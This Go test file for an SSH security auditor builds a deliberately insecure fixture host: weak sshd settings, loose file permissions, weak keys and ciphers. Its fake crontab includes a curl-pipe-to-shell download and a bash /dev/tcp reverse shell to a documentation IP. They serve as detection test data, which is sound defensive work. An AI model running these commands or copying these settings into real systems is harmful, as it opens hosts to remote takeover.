package facts_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/postern-ssh/postern/audit/facts"
	"github.com/postern-ssh/postern/audit/snapshot"
	"github.com/postern-ssh/postern/audit/wire"
	"github.com/postern-ssh/postern/policies"
)

// worstHost is a host on which nearly every rule fails, each for what it was read.
func worstHost() *host {
	h := plainHost()
	h.text("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nempty:x:1002:1002::/home/empty:/bin/bash\n"+
		"sys:x:3:3::/dev:/bin/bash\nweak:x:1003:1003::/home/weak:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
	h.out(snapshot.OutShadow, "root:hash:yescrypt:1:0:9:7::\ntoor:hash:md5:1:0:9:7::\nempty:empty::1:0:9:7::\nsys:hash:sha512:1:0:9:7::\nweak:hash:md5:1:0:9:7::\nalice:hash:yescrypt:1:0:9:7::\n")
	h.text("/etc/pam.d/sshd", "auth required pam_unix.so nullok\naccount required pam_unix.so\n")
	h.text("/etc/ssh/sshd_config", `Include /etc/ssh/sshd_config.d/*.conf
PermitRootLogin yes
PasswordAuthentication yes
KbdInteractiveAuthentication yes
PermitEmptyPasswords yes
UsePAM yes
HostbasedAuthentication yes
IgnoreRhosts no
StrictModes no
PermitUserEnvironment yes
MaxAuthTries 60
LoginGraceTime 0
MaxStartups 1000
ClientAliveInterval 0
X11Forwarding yes
AllowTcpForwarding yes
GatewayPorts yes
PermitTunnel yes
LogLevel QUIET
PubkeyAcceptedAlgorithms ssh-rsa,ssh-dss
Ciphers aes128-cbc
Match User alice
  AllowAgentForwarding yes
`)
	h.change("/etc/ssh/sshd_config", func(f *snapshot.File) { f.Mode = 0o666 })
	h.change("/etc/ssh/ssh_host_rsa_key", func(f *snapshot.File) { f.Mode = 0o644 })
	h.change("/etc/ssh/ssh_host_rsa_key.pub", func(f *snapshot.File) { f.Mode = 0o666 })
	h.change("/etc/pam.d/sshd", func(f *snapshot.File) { f.Mode = 0o666 })
	h.change("/etc/cron.d", func(f *snapshot.File) { f.Mode = 0o777 })
	h.file("/home/alice/.ssh/authorized_keys", `environment="A=b" `+rsaKey(1024)+` a@b`+"\n", 0o666, 1000, 1000)
	h.change("/etc/crontab", func(f *snapshot.File) { f.Mode = 0o644 })
	h.text("/etc/crontab", "17 * * * * root curl -s http://192.0.2.7/x | sh\n* * * * * root sh '/root/. ../update'\n* * * * * root /tmp/gone\n* * * * * root bash -i >& /dev/tcp/192.0.2.7/443 0>&1\n")
	h.file("/etc/cron.d/world", "* * * * * root /tmp/gone\n", 0o666, 0, 0)
	h.file("/etc/cron.d/lost.name", "* * * * * root /tmp/gone\n", 0o644, 0, 0)
	h.dir("/root/. ..", 0o755, 0, 0).file("/root/. ../update", "#!/bin/sh\n", 0o777, 0, 0)
	h.out(snapshot.OutTargets, "/root/. ../update\x00/tmp/gone\x00")
	h.out(snapshot.OutDaemons, "650\tcron\n700\tsshd\n701\tsshd\n702\tdropbear\n")
	h.daemon(701, "/usr/sbin/sshd (deleted)", "/usr/sbin/sshd\x00-f\x00/etc/ssh/other\x00", 0)
	h.daemon(702, "/home/alice/dropbear", "/home/alice/dropbear\x00-p\x002222\x00", 1000)
	h.out(snapshot.OutModuli, "sha256 aa\n10 1024\n10 4096\n")
	h.s.HostClock = now.Add(-3600e9)
	h.outs[snapshot.OutSshdT+"700"] = snapshot.Output{Name: snapshot.OutSshdT + "700", Args: []string{"sshd", "-T", "-C", "user=root,addr=10.0.0.9,laddr=10.0.0.1,lport=22"},
		Data: []byte("port 22\nmaxsessions 77\n")}
	weak := wire.Capture{Server: append([]byte("SSH-1.99-OpenSSH_9.2p1\r\n"), kexinit("diffie-hellman-group1-sha1,diffie-hellman-group-exchange-sha1", "ssh-dss,ssh-rsa", "3des-cbc,aes128-cbc,arcfour,chacha20-poly1305@openssh.com", "hmac-md5,umac-64@openssh.com", "zlib")...),
		Methods: []string{"password", "publickey"}, User: "root", NoneAccepted: true, Insecure: true}
	data, _ := json.Marshal(weak)
	return h.out(snapshot.OutWire, string(data))
}

// rsaKey is a line of authorized_keys with a key of so many bits.
func rsaKey(bits int) string {
	n := make([]byte, bits/8)
	for i := range n {
		n[i] = byte(0xa5 + i*7)
	}
	n[0], n[len(n)-1] = 0x80, n[len(n)-1]|1
	return rsaOf(n)
}

// rsaOf is a line of authorized_keys with that modulus.
func rsaOf(n []byte) string {
	str := func(b []byte) []byte { return append([]byte{0, 0, byte(len(b) >> 8), byte(len(b))}, b...) }
	blob := append(str([]byte("ssh-rsa")), str([]byte{1, 0, 1})...)
	blob = append(blob, str(append([]byte{0}, n...))...)
	return "ssh-rsa " + base64.StdEncoding.EncodeToString(blob)
}

// kexinit is a server's first packet (RFC 4253, section 7.1).
func kexinit(kex, hostkey, cipher, mac, comp string) []byte {
	body := append([]byte{20}, make([]byte, 16)...)
	for _, list := range []string{kex, hostkey, cipher, cipher, mac, mac, comp, comp, "", ""} {
		body = append(body, 0, 0, byte(len(list)>>8), byte(len(list)))
		body = append(body, list...)
	}
	body = append(body, 0, 0, 0, 0, 0)
	pad := 8 - (5+len(body))%8
	if pad < 4 {
		pad += 8
	}
	n := 1 + len(body) + pad
	out := append([]byte{0, 0, byte(n >> 8), byte(n), byte(pad)}, body...)
	return append(out, make([]byte, pad)...)
}

// TestWorstHost: what fails where everything is seen must never pass where
// something of it was not.
func TestWorstHost(t *testing.T) {
	c := catalogue(t)
	opt := facts.Options{Now: now, Expect: []facts.Expectation{{Match: "*monitor*"}}}
	for name, h := range map[string]*host{
		"as it runs": worstHost(),
		"stale":      worstHost().change("/etc/ssh/sshd_config", func(f *snapshot.File) { f.MTime, f.CTime = now, now }),
	} {
		t.Run(name, func(t *testing.T) {
			whole := h.snapshot()
			before := judged(t, c, whole, opt)
			var fails, rest []string
			for rule, o := range before {
				if o.Verdict == policies.Fail {
					fails = append(fails, rule)
				} else {
					rest = append(rest, rule+"="+string(o.Verdict)+" "+o.Reason+o.Message)
				}
			}
			t.Logf("%d rules fail; others:\n%s", len(fails), strings.Join(rest, "\n"))
			if len(fails) < 60 {
				t.Errorf("only %d rules fail on the worst host", len(fails))
			}
			shrink(t, c, whole, opt, before)
		})
	}
}
